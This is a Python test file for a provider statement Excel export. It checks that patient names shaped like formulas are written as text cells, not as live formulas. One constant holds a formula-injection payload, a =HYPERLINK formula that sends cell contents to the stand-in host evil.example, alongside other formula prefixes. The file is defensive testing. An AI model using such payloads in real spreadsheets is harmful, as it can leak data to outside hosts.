"""The provider's statement Excel on moto: a patient name that looks like a spreadsheet
formula is written as text, never as a live formula."""

from __future__ import annotations

import io
from decimal import Decimal
from urllib.parse import unquote, urlparse

from chalicelib.providers import schemas as s
from chalicelib.providers import service as providers
from tests.service.providers.world import BUCKET, ProvidersWorld

RFC = "RASJ750312H42"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver")'
OTHERS = ("+SUM(1,1)", "-1+1", "@SUM(1,1)")


def _download(world: ProvidersWorld, url: str) -> bytes:
    # moto in-process answers presigned URLs only through boto3: read the object by its key.
    path = unquote(urlparse(url).path).lstrip("/")
    key = path.removeprefix(f"{BUCKET}/")
    return bytes(world.s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())


def test_a_hostile_patient_name_is_a_string_cell_in_the_statement(world: ProvidersWorld) -> None:
    from openpyxl import load_workbook

    provider = world.provider()
    names = (LEAK, *OTHERS)
    world.load_orders(
        RFC, *((f"H-{n:04d}", name, "1000.00") for n, name in enumerate(names, start=1))
    )
    export = providers.statement(provider, s.StatementQuery(format="xlsx")).root
    assert isinstance(export, s.ExportOut)
    sheet = load_workbook(io.BytesIO(_download(world, export.url))).active
    assert sheet is not None
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["A4"].value == "Cuenta"
    orders = list(sheet.iter_rows(min_row=5, max_row=4 + len(names)))
    # Patient names are stored in capitals.
    assert sorted(row[1].value for row in orders) == sorted(name.upper() for name in names)
    assert {row[1].data_type for row in orders} == {"s"}
    # Amounts stay numbers with the money format.
    assert all(row[5].value == Decimal("1000") or row[5].value == 1000 for row in orders)
    assert {row[5].data_type for row in orders} == {"n"}
    assert orders[0][5].number_format == '"$"#,##0.00'
    totals = [c.value for c in sheet[4 + len(names) + 1]]
    assert totals[0] == "Totales"
    assert totals[5] == 4000


def test_the_statement_names_an_invoice_by_its_fiscal_uuid(world: ProvidersWorld) -> None:
    from openpyxl import load_workbook

    from tests.unit.providers.cfdi import INVOICE_UUID, order_invoice

    provider = world.provider()
    pairs = [("A-2001", "ANA SOFIA TORRES VEGA", "1000.00"), ("A-2002", "LUIS NUÑEZ", "500.00")]
    orders = world.load_orders(RFC, *pairs)
    invoice_id = world.invoice(provider, [o.id for o in orders], order_invoice(pairs))
    assert providers.invoice(provider, invoice_id).status == "aceptada"
    export = providers.statement(provider, s.StatementQuery(format="xlsx")).root
    assert isinstance(export, s.ExportOut)
    sheet = load_workbook(io.BytesIO(_download(world, export.url))).active
    assert sheet is not None
    assert sheet["J4"].value == "Factura (folio fiscal UUID)"
    assert [sheet["J5"].value, sheet["J6"].value] == [INVOICE_UUID, INVOICE_UUID]
    assert invoice_id not in {str(c.value) for row in sheet.iter_rows() for c in row}
    assert str(sheet["A2"].value).endswith("(hora del centro de México)")
    # Accents stay as the order was loaded (rows of one day come in no set order).
    assert {sheet["B5"].value, sheet["B6"].value} == {"ANA SOFIA TORRES VEGA", "LUIS NUÑEZ"}
